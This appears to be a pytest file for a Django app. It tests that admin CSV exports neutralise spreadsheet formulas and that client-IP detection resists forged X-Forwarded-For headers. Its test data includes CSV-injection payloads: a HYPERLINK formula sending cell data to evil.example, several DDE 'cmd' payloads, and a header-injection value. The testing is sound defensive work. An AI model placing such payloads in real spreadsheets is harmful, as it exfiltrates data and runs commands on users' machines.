"""Spreadsheet exports cannot carry live formulas, and the client address cannot be forged."""

import csv
import io

import pytest
import tablib
from django.test import RequestFactory, override_settings

from security.clients import client_ip_address
from security.exports import SpreadsheetSafeCSV, spreadsheet_safe

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_cells_that_start_a_formula_are_prefixed_so_spreadsheets_show_text(formula):
    assert spreadsheet_safe(formula) == "'" + formula


@pytest.mark.parametrize("value", ["Leadership MSc", "Cohort of 30", "", "O'Neil", 42, None, "a=b"])
def test_ordinary_cells_are_unchanged(value):
    assert spreadsheet_safe(value) == value


def test_admin_csv_export_neutralises_every_formula_cell_and_header():
    dataset = tablib.Dataset(headers=["title", "=evil header"])
    for formula in FORMULAS:
        dataset.append([formula, "plain"])

    exported = SpreadsheetSafeCSV().export_data(dataset)

    rows = list(csv.reader(io.StringIO(exported)))
    assert rows[0] == ["title", "'=evil header"]
    for row, formula in zip(rows[1:], FORMULAS, strict=True):
        assert row == ["'" + formula, "plain"]
        assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r"))


def test_admin_csv_export_imports_back_unchanged():
    dataset = tablib.Dataset(headers=["title", "phone"])
    dataset.append(["=1+1", "+44 121 414 0000"])
    dataset.append(["Leadership", "0121"])
    exported = SpreadsheetSafeCSV().export_data(dataset)
    imported = SpreadsheetSafeCSV().create_dataset(exported)
    assert list(imported) == [("=1+1", "+44 121 414 0000"), ("Leadership", "0121")]


def test_the_programme_admin_imports_and_exports_only_the_safe_csv():
    from django.contrib import admin

    from programmes.models import Programme

    programme_admin = admin.site.get_model_admin(Programme)
    assert programme_admin.get_export_formats() == [SpreadsheetSafeCSV]
    assert programme_admin.get_import_formats() == [SpreadsheetSafeCSV]


# The client address used for lockouts and rate limits


@override_settings(TRUSTED_PROXY_COUNT=0)
def test_without_a_proxy_a_forged_forwarded_for_header_is_ignored():
    request = RequestFactory().get("/", REMOTE_ADDR="203.0.113.9", HTTP_X_FORWARDED_FOR="127.0.0.1")
    assert client_ip_address(request) == "203.0.113.9"


@override_settings(TRUSTED_PROXY_COUNT=1)
def test_behind_one_proxy_the_address_it_appended_is_used_not_the_clients_forgery():
    request = RequestFactory().get("/", REMOTE_ADDR="10.0.0.2", HTTP_X_FORWARDED_FOR="1.2.3.4, 203.0.113.9")
    assert client_ip_address(request) == "203.0.113.9"


@override_settings(TRUSTED_PROXY_COUNT=2)
def test_behind_two_proxies_the_second_entry_from_the_right_is_used():
    request = RequestFactory().get("/", REMOTE_ADDR="10.0.0.2", HTTP_X_FORWARDED_FOR="1.2.3.4, 203.0.113.9, 10.0.0.1")
    assert client_ip_address(request) == "203.0.113.9"


@override_settings(TRUSTED_PROXY_COUNT=1)
@pytest.mark.parametrize("forwarded", ["", "not-an-address", "203.0.113.9\r\nX-Evil: 1"])
def test_a_missing_or_malformed_forwarded_header_falls_back_to_the_peer_address(forwarded):
    request = RequestFactory().get("/", REMOTE_ADDR="10.0.0.2", HTTP_X_FORWARDED_FOR=forwarded)
    assert client_ip_address(request) == "10.0.0.2"
